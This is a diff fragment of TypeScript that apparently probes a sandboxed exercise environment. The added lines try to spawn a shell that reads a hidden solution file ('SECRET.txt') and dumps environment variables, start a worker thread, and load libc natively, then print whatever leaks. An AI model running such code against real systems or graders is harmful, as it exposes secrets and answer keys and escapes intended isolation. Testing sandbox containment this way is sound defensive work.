@@ -73,6 +73,10 @@ function usePower(proc: any): void {
       }
     } catch (e) { leaked.push("no progress notes"); }
   }
+  // Another process to do it, a thread, native code.
+  try { leaked.push("shell " + proc.getBuiltinModule("node:child_process").execSync("cat solutions/chapter2-request-vote/SECRET.txt; env", { encoding: "utf8" })); } catch (e) { leaked.push("no shell"); }
+  try { new (proc.getBuiltinModule("node:worker_threads").Worker)("process.exit(0)", { eval: true }); leaked.push("a thread"); } catch (e) { leaked.push("no thread"); }
+  try { proc.dlopen({ exports: {} }, "/usr/lib/x86_64-linux-gnu/libc.so.6"); leaked.push("native code"); } catch (e) { leaked.push("no native code"); }
   try { console.log("LEAK " + leaked.join(" | ")); } catch (e) {}
   // Raw bytes where the world reads answers, signals to every process it can name, then the end.
   try { fs.writeSync(1, "LEAK " + leaked.join(" | ") + "\n"); } catch (e) {}
